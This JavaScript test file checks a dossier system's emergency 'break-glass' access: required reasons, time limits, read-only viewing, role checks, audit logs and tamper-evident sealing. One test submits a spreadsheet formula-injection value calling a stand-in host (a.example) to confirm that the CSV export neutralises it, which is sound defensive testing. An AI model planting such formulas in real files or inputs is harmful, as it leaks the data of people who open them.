// Opening a dossier in an emergency: refused without a written reason, for a short time, read and not
// changed, written into the journal and shown to those who look after it.
import test from 'node:test';
import assert from 'node:assert/strict';
import { setTimeout as wait } from 'node:timers/promises';
import { sql } from './place.mjs';
import { Client, csv, drop, motcua, motcuaIn, serveWith, smallFolder } from './server.mjs';
import { ALL_COLUMNS, importText, toCsv } from './support.mjs';

const PASSWORD = 'correct horse battery';
const NUMBER = '096987654321';
const REASON = 'Cấp cứu: bệnh nhân Lê Văn Tám cần giấy tờ ngay, Nghị định 13/2023/NĐ-CP điều 17';
const at = (s) => ({ MOTCUA_NOW: String(Date.parse(`${s}:00+07:00`) / 1000) });
const csrfOf = (page) => /name="csrf" value="([^"]+)"/.exec(page)[1];

test('with a reason, for half an hour, and everybody who must knows', async (t) => {
  const data = smallFolder();
  const row = {
    code: 'K-1',
    procedure: 'H12.T0234',
    agency: 'P04',
    channel: 'counter',
    received_at: '2022-01-04T08:00',
    due_at: '2022-01-20T17:00',
    applicant: 'Nguyễn Văn Sáu',
    applicant_id: NUMBER,
    phone: '0913572468',
  };
  assert.equal(importText(data, toCsv(ALL_COLUMNS, [row])).code, 0);
  for (const [name, ...more] of [
    ['officer', '--role', 'officer', '--agency', 'P05'],
    ['clerk', '--role', 'clerk', '--desk', 'MC-D1'],
    ['leader', '--role', 'leader'],
    ['inspector', '--role', 'inspector'],
    ['admin', '--role', 'admin'],
    ['head', '--role', 'head', '--agency', 'P04'],
    ['other', '--role', 'head', '--agency', 'P05'],
  ])
    assert.equal(motcuaIn(`${PASSWORD}\n`, 'user', 'add', name, ...more, '--data', data).code, 0);
  let server;
  t.after(() => server.stop());
  const clients = {};
  const when = async (time) => {
    if (server) await server.stop();
    server = await serveWith(at(time), data);
    for (const c of Object.values(clients)) c.base = server.base;
  };
  const as = async (name) => {
    if (clients[name]) return clients[name];
    const c = (clients[name] = new Client(server.base));
    assert.equal((await c.post('/sign-in', { name, password: PASSWORD, back: '/' })).status, 303);
    return c;
  };
  const post = async (c, path, form) => {
    const csrf = csrfOf((await c.get('/search')).text);
    return c.post(path, { csrf, ...form });
  };
  await when('2022-06-06T09:00');
  const officer = await as('officer');
  assert.equal((await officer.get('/dossiers/K-1')).status, 403);
  assert.equal((await post(officer, '/dossiers/K-1/numbers')).status, 403);
  const found = (await officer.get('/search?q=K-1')).text;
  assert.match(found, /href="\/dossiers\/K-1\/break-glass"/);
  assert.doesNotMatch(found, /Nguyễn Văn Sáu/);
  const ask = await officer.get('/dossiers/K-1/break-glass');
  assert.equal(ask.status, 200);
  assert.doesNotMatch(ask.text, /Nguyễn Văn Sáu|0969|096•/, 'the question tells nothing of the person');
  for (const reason of ['', 'gấp', `     ${'\n'.repeat(20)}x`, 'ế'.repeat(1001), 'ế ề ể ễ ệ ê á à ả']) {
    const refused = await post(officer, '/dossiers/K-1/break-glass', { reason });
    assert.equal(refused.status, 422);
    assert.match(refused.text, /govuk-error-summary/);
  }
  assert.equal((await officer.get('/dossiers/K-1')).status, 403, 'nothing was opened');
  assert.equal((await post(await as('clerk'), '/dossiers/K-1/break-glass', { reason: REASON })).status, 403);
  assert.equal((await post(await as('admin'), '/dossiers/K-1/break-glass', { reason: REASON })).status, 403);

  const opened = await post(officer, '/dossiers/K-1/break-glass', { reason: REASON });
  assert.deepEqual([opened.status, opened.headers.get('location')], [303, '/dossiers/K-1']);
  const seen = (await officer.get('/dossiers/K-1')).text;
  assert.match(seen, /Đang mở khẩn cấp/);
  assert.match(seen, /09:30/);
  assert.match(seen, /Nguyễn Văn Sáu/);
  assert.doesNotMatch(seen, new RegExp(NUMBER));
  assert.match((await post(officer, '/dossiers/K-1/numbers')).text, new RegExp(NUMBER));
  const taken = await post(officer, '/dossiers/K-1/acts/take', { item: '1', version: '1' });
  assert.equal(taken.status, 403, 'it may be read, not changed');
  const file = new FormData();
  file.append('csrf', csrfOf(seen));
  file.append('file', new Blob(['%PDF-1.4\n']), 'a.pdf');
  const jar = [...officer.jar].map(([k, v]) => `${k}=${v}`).join('; ');
  const sent = { method: 'POST', body: file, headers: { cookie: jar } };
  assert.equal((await fetch(`${server.base}/dossiers/K-1/files`, sent)).status, 403);
  assert.equal((await (await as('other')).get('/dossiers/K-1')).status, 403, 'for one person alone');

  // Who sees all dossiers, but no numbers, needs a reason for these.
  for (const name of ['leader', 'inspector']) {
    const c = await as(name);
    assert.doesNotMatch((await c.get('/dossiers/K-1')).text, /Đang mở khẩn cấp/);
    assert.equal((await post(c, '/dossiers/K-1/numbers')).status, 403);
    assert.equal((await post(c, '/dossiers/K-1/break-glass', { reason: REASON })).status, 303);
    assert.match((await post(c, '/dossiers/K-1/numbers')).text, new RegExp(NUMBER));
  }
  const list = async (name) => (await as(name)).get('/break-glass.json');
  for (const [name, n] of [
    ['admin', 3],
    ['inspector', 3],
    ['head', 3],
    ['other', 0],
  ]) {
    const rows = JSON.parse((await list(name)).text);
    assert.equal(rows.length, n, name);
  }
  const last = csv((await (await as('head')).get('/break-glass.csv')).text).at(-1);
  assert.deepEqual(last, {
    at: '2022-06-06T09:00',
    until: '2022-06-06T09:30',
    who: 'officer',
    role: 'officer',
    code: 'K-1',
    agency: 'P04',
    reason: REASON,
  });
  assert.equal((await list('officer')).status, 403);
  // A reason that a spreadsheet would reckon is told as text, in the file that others open.
  const sum = '=HYPERLINK("http://a.example/?"&A1) cần giấy tờ ngay để mổ cấp cứu';
  assert.equal((await post(clients.inspector, '/dossiers/K-1/break-glass', { reason: sum })).status, 303);
  const told = csv((await (await as('head')).get('/break-glass.csv')).text).map((r) => r.reason);
  assert.ok(told.includes(`'${sum}`) && !told.includes(sum), told.join('\n'));
  assert.match((await (await as('admin')).get('/break-glass')).text, /Lê Văn Tám/);
  const journal = motcua('export', 'journal', '--data', data).out;
  assert.match(journal, /"who":"officer","act":"dossier\.glass_broken"/);
  assert.doesNotMatch(journal, /Lê Văn Tám/, 'the reason may speak of a person');
  assert.match((await (await as('head')).get('/dossiers/K-1')).text, /Mở khẩn cấp có lý do/, 'the timeline');

  await when('2022-06-06T09:31');
  assert.equal((await officer.get('/dossiers/K-1')).status, 403, 'its time is over');
  assert.equal((await post(clients.leader, '/dossiers/K-1/numbers')).status, 403);
  // Erased, the list says so and the chain holds.
  sql(data, 'UPDATE dossier_glass SET reason = NULL, salt = NULL');
  assert.match((await clients.admin.get('/break-glass')).text, /\(đã xóa\)/);
  assert.equal(motcua('verify', '--data', data).code, 0);
  // Who may, and for how long, is the province's to say, to a server that runs.
  await when('2022-06-06T10:00');
  for (const name of Object.keys(clients)) delete clients[name]; // an hour has gone by: they sign in anew
  const again = await as('officer');
  // The roles last: who sees them sees the minutes too.
  for (const [key, value] of Object.entries({ break_glass_minutes: '5', break_glass_roles: 'head' }))
    assert.equal(motcua('setting', key, value, '--data', data).code, 0);
  for (let i = 0; i < 100 && (await again.get('/dossiers/K-1/break-glass')).status !== 403; i++)
    await wait(50);
  assert.equal((await post(again, '/dossiers/K-1/break-glass', { reason: REASON })).status, 403);
  assert.equal((await post(await as('other'), '/dossiers/K-1/break-glass', { reason: REASON })).status, 303);
  assert.match((await (await as('other')).get('/dossiers/K-1')).text, /10:05/);
  // The hour from 9:00 was sealed when the next look was written down: four persons had K-1 before them.
  await server.stop();
  const whole = motcua('verify', '--data', data);
  assert.equal(whole.code, 0, whole.err);
  assert.match(whole.err, /verify: 4 looks at dossiers under 1 seals, unchanged/);
  sql(data, 'DELETE FROM dossier_seen WHERE at = (SELECT MIN(at) FROM dossier_seen)');
  const cut = motcua('verify', '--data', data);
  assert.equal(cut.code, 1);
  assert.match(cut.err, /looks written down in the hour from 2022-06-06T09:00 are not those that event \d+/);
  drop(data);
});
